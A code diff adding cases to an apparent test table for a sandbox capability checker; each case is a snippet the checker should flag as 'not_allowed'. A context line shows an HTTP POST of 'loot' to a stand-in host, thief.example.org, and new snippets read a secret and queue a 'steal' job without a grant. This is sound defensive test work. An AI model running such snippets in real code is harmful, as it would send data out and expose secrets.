@@ -163,6 +163,23 @@ return ctx.http.request("POST", "https://thief.example.org", data="loot").text  
         "capability-missing",
         code="not_allowed",
     ),
+    _animal(
+        "reads secrets without a grant",
+        """
+return json_response(ctx.secrets.get("key"))  # here
+""",
+        "capability-missing",
+        code="not_allowed",
+    ),
+    _animal(
+        "puts work off without a grant",
+        """
+ctx.jobs.later("steal", {})  # here
+return "done"
+""",
+        "capability-missing",
+        code="not_allowed",
+    ),
     # -- what goes around the sdk: found ---------------------------------------------------------------
     _animal(
         "asks the database itself who is an administrator",
